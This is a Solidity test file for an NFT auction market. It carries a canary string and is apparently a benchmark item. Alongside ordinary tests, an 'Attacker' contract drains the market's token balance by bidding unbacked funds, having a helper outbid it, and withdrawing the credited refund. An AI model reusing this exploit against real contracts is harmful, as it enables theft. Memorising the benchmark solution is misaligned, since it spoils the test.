// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts@3.4.2/token/ERC721/ERC721.sol";
import "./CollectibleMarket.sol";

// assay-canary-63377f9a-9261-45cd-ad08-879247a9153b

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract BidCoin is ERC20 {
    constructor() public ERC20("Coin", "COIN") {
        _mint(msg.sender, 100000e18);
    }
}

contract Stamps is ERC721 {
    address private maker;

    constructor() public ERC721("Stamps", "STP") {
        maker = msg.sender;
    }

    function mint(address to, uint256 tokenId) external {
        require(msg.sender == maker, "maker only");
        _mint(to, tokenId);
    }
}

// A coin that calls somebody back while it moves.
contract CallingCoin is ERC20 {
    address private taker;
    bytes private data;

    constructor() public ERC20("Calling", "CALL") {
        _mint(msg.sender, 100e18);
    }

    function callBack(address to, bytes calldata what) external {
        taker = to;
        data = what;
    }

    function _beforeTokenTransfer(address, address, uint256) internal override {
        if (taker != address(0)) {
            (bool done, bytes memory answer) = taker.call(data);
            if (!done) {
                assembly {
                    revert(add(answer, 32), mload(answer))
                }
            }
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1700000000;

    BidCoin private token;
    Stamps private stamps;
    CollectibleMarket private market;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new BidCoin();
        stamps = new Stamps();
        market = new CollectibleMarket(token);
        ok(market._supportCollection(address(stamps)));
        ok(market._setFee(0.02e18));
        deposit(BEN, 3000e18);
        deposit(CAT, 2000e18);
        for (uint256 i = 0; i < 3; i++) {
            stamps.mint(ANA, i);
            vm.prank(ANA);
            stamps.approve(address(market), i);
        }
        vm.prank(ANA);
        ok(market.list(address(stamps), 0, 100e18, 7 days));
        mallory = new Attacker(market);
    }

    function ok(uint256 code) private pure {
        require(code == 0, "refused");
    }

    function refused(uint256 code, CollectibleMarket.Error error) private pure {
        require(code == uint256(error), "not refused, or otherwise");
    }

    function deposit(address who, uint256 amount) private {
        token.transfer(who, amount);
        vm.startPrank(who);
        token.approve(address(market), amount);
        ok(market.deposit(amount));
        vm.stopPrank();
    }

    function test_Regular() public {
        require(market.lotCount() == 1 && market.minimumBid(0) == 100e18, "listed");
        vm.prank(BEN);
        ok(market.bid(0, 100e18));
        require(market.minimumBid(0) == 105e18 + 1 && market.freeBalance(BEN) == 2900e18, "led");
        require(market.lockedBalance(BEN) == 100e18, "locked");
        vm.prank(CAT);
        ok(market.bid(0, 2000e18));
        require(market.freeBalance(BEN) == 3000e18 && market.lockedBalance(BEN) == 0, "outbid");
        require(market.freeBalance(CAT) == 0 && market.lockedBalance(CAT) == 2000e18, "everything");
        vm.warp(START + 7 days);
        ok(market.settle(0));
        require(stamps.ownerOf(0) == CAT && market.freeBalance(ANA) == 1960e18, "settled");
        require(market.totalFees() == 40e18 && market.totalBalances() == 4960e18, "fee");
        vm.prank(ANA);
        ok(market.withdraw(1960e18));
        require(token.balanceOf(ANA) == 1960e18 && market.freeBalance(ANA) == 0, "withdrawn");
        ok(market._collectFees(30e18));
        require(market.totalFees() == 10e18 && token.balanceOf(address(market)) == 3010e18, "collected");

        vm.startPrank(ANA);
        ok(market.list(address(stamps), 1, 1e18, 1 days));
        ok(market.cancel(1));
        ok(market.list(address(stamps), 2, 1e18, 1 days));
        vm.stopPrank();
        require(stamps.ownerOf(1) == ANA, "cancelled");
        vm.warp(START + 8 days);
        ok(market.settle(2));
        (address seller, address leader, uint256 best, uint256 endsAt, bool closed) = market.lotAt(2);
        require(seller == ANA && leader == address(0) && best == 1e18 && endsAt == START + 8 days && closed, "nobody");
        require(stamps.ownerOf(2) == ANA, "back");

        ok(market._setPendingAdmin(CAT));
        vm.prank(CAT);
        ok(market._acceptAdmin());
        require(market.admin() == CAT && market.pendingAdmin() == address(0), "admin");
    }

    function test_RefusesOpening() public {
        vm.expectRevert("the coin may not be zero");
        new CollectibleMarket(IERC20(0));
    }

    function test_RefusesSellers() public {
        vm.startPrank(ANA);
        refused(market.list(address(token), 1, 1, 1), ErrorReporter.Error.COLLECTION_NOT_SUPPORTED);
        refused(market.list(address(stamps), 1, 0, 1), ErrorReporter.Error.BAD_INPUT);
        refused(market.list(address(stamps), 1, 1, 0), ErrorReporter.Error.BAD_INPUT);
        refused(market.list(address(stamps), 1, 1, 30 days + 1), ErrorReporter.Error.BAD_INPUT);
        refused(market.cancel(1), ErrorReporter.Error.NO_SUCH_LOT);
        ok(market.list(address(stamps), 1, 1, 1 days));
        ok(market.cancel(1));
        refused(market.cancel(1), ErrorReporter.Error.LOT_CLOSED);
        vm.stopPrank();
        vm.prank(BEN);
        refused(market.cancel(0), ErrorReporter.Error.UNAUTHORIZED);
        vm.prank(BEN);
        ok(market.bid(0, 100e18));
        vm.prank(ANA);
        refused(market.cancel(0), ErrorReporter.Error.LOT_HAS_BIDS);
    }

    function test_RefusesBidders() public {
        vm.startPrank(BEN);
        refused(market.bid(1, 100e18), ErrorReporter.Error.NO_SUCH_LOT);
        refused(market.bid(0, 100e18 - 1), ErrorReporter.Error.BID_TOO_LOW);
        ok(market.bid(0, 100e18));
        refused(market.bid(0, 200e18), ErrorReporter.Error.ALREADY_LEADING);
        refused(market.withdraw(2900e18 + 1), ErrorReporter.Error.INSUFFICIENT_BALANCE);
        vm.stopPrank();
        vm.startPrank(CAT);
        refused(market.bid(0, 105e18), ErrorReporter.Error.BID_TOO_LOW);
        refused(market.settle(1), ErrorReporter.Error.NO_SUCH_LOT);
        refused(market.settle(0), ErrorReporter.Error.LOT_RUNNING);
        vm.warp(START + 7 days);
        refused(market.bid(0, 200e18), ErrorReporter.Error.LOT_CLOSED);
        ok(market.settle(0));
        refused(market.settle(0), ErrorReporter.Error.LOT_CLOSED);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        refused(market._supportCollection(BEN), ErrorReporter.Error.UNAUTHORIZED);
        refused(market._setFee(0), ErrorReporter.Error.UNAUTHORIZED);
        refused(market._setPendingAdmin(BEN), ErrorReporter.Error.UNAUTHORIZED);
        refused(market._acceptAdmin(), ErrorReporter.Error.UNAUTHORIZED);
        refused(market._collectFees(0), ErrorReporter.Error.UNAUTHORIZED);
        vm.stopPrank();
        refused(market._setFee(0.1e18 + 1), ErrorReporter.Error.BAD_INPUT);
        refused(market._collectFees(1), ErrorReporter.Error.INSUFFICIENT_BALANCE);
    }

    function again(bytes memory data) private returns (CollectibleMarket made, CallingCoin calling) {
        calling = new CallingCoin();
        made = new CollectibleMarket(calling);
        calling.approve(address(made), 100e18);
        ok(made.deposit(10e18));
        calling.callBack(address(made), data);
        vm.expectRevert("ReentrancyGuard: reentrant call");
    }

    function test_RefusesAgain() public {
        (CollectibleMarket made,) = again(abi.encodeWithSelector(market.deposit.selector, 0));
        made.deposit(1e18);
        (made,) = again(abi.encodeWithSelector(market.withdraw.selector, 0));
        made.withdraw(1e18);
        (made,) = again(abi.encodeWithSelector(market._collectFees.selector, 0));
        made.withdraw(1e18);
        (made,) = again(abi.encodeWithSelector(market.deposit.selector, 0));
        made._collectFees(0);
    }

    function test_RefusesLotsAgain() public {
        (CollectibleMarket made,) = again(abi.encodeWithSelector(market.settle.selector, 0));
        made.withdraw(1e18);
        (made,) = again(abi.encodeWithSelector(market.bid.selector, 0, 0));
        made.withdraw(1e18);
        (made,) = again(abi.encodeWithSelector(market.cancel.selector, 0));
        made.withdraw(1e18);
        (made,) = again(abi.encodeWithSelector(market.list.selector, address(0), 0, 0, 0));
        made.withdraw(1e18);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 5000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Helper {
    function outbid(CollectibleMarket market, uint256 amount) external {
        market.bid(0, amount);
    }
}

contract Attacker {
    CollectibleMarket private market;
    Helper private helper;

    constructor(CollectibleMarket m) public {
        market = m;
        helper = new Helper();
    }

    function run() external {
        uint256 all = market.coin().balanceOf(address(market));
        market.bid(0, all);
        helper.outbid(market, all * 2);
        market.withdraw(all);
    }
}
